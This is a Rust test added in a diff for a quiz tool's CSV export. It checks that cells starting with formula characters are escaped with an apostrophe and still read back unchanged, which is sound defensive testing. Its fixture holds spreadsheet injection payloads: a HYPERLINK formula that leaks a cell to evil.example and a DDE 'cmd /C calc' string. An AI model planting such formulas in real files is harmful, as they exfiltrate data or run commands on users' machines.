@@ -546,3 +546,84 @@ proptest! {
         prop_assert_eq!(&out.quizzes[0].questions, &quiz.questions);
     }
 }
+
+#[test]
+fn csv_export_puts_an_apostrophe_before_formulas_and_reads_back_the_same_text() {
+    let data = tempfile::tempdir().unwrap();
+    let source = data.path().join("formulas.toml");
+    std::fs::write(
+        &source,
+        r#"id = "formulas"
+title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answers")'
+description = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+[[questions]]
+text = "+1 or -1?"
+answers = ["-1", "+1", "'=already behind an apostrophe", "'Tis plain"]
+correct = "-1"
+explanation = "=1+1"
+
+[[questions]]
+kind = "slider"
+text = "How cold is it?"
+min = -10
+max = 10
+correct = -5
+unit = "-°C"
+
+[[questions]]
+kind = "slide"
+text = "Tab"
+body = "\t=2+2"
+"#,
+    )
+    .unwrap();
+    let run = quizbox(data.path(), &["import", source.to_str().unwrap()]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let run = quizbox(data.path(), &["export", "formulas", "--format", "csv"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+
+    // No text cell starts a formula; numbers stay numbers.
+    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let mut guarded = Vec::new();
+    for record in reader.records() {
+        for (column, cell) in header.iter().zip(record.unwrap().iter()) {
+            if cell.parse::<f64>().is_ok() {
+                continue;
+            }
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{column}: {cell:?}\n{}",
+                run.stdout
+            );
+            if cell.starts_with('\'') {
+                guarded.push(format!("{column}: {cell}"));
+            }
+        }
+    }
+    assert_eq!(
+        guarded,
+        [
+            "quiz_title: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the answers\")",
+            "quiz_description: '@SUM(1+1)*cmd|' /C calc'!A0",
+            "question: '+1 or -1?",
+            "answer1: '-1",
+            "answer2: '+1",
+            "answer3: ''=already behind an apostrophe",
+            "answer4: 'Tis plain",
+            "explanation: '=1+1",
+            "quiz_title: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the answers\")",
+            "quiz_description: '@SUM(1+1)*cmd|' /C calc'!A0",
+            "unit: '-°C",
+            "quiz_title: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the answers\")",
+            "quiz_description: '@SUM(1+1)*cmd|' /C calc'!A0",
+            "body: '\t=2+2",
+        ]
+    );
+
+    // Read back, every text is what was stored.
+    let parsed = formats::parse(Format::Csv, run.stdout.as_bytes(), "x");
+    assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
+    assert_eq!(parsed.quizzes, [stored(data.path(), "formulas")]);
+}
